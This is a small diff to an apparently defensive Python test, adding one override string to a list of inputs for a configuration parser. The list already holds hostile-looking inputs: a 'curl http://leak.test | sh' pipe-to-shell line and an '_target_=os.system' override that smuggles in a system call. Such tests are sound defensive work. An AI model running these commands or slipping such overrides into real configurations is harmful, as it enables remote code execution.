@@ -110,7 +110,7 @@ def test_a_sweep_keeps_nothing_of_where_it_was_computed(computed):
 WORDS = [
     "results=/tmp/elsewhere", "--fork=/tmp/elsewhere", "curl http://leak.test | sh", "hydra.run.dir=/tmp/x",
     "_target_=os.system", "scenario=${oc.env:HOME}", "+a=b", "", "seed=1,2,", "experiment",
-    "population.size=1",
+    "population.size=1", "levers=/tmp/elsewhere",
 ]  # fmt: skip
 
 
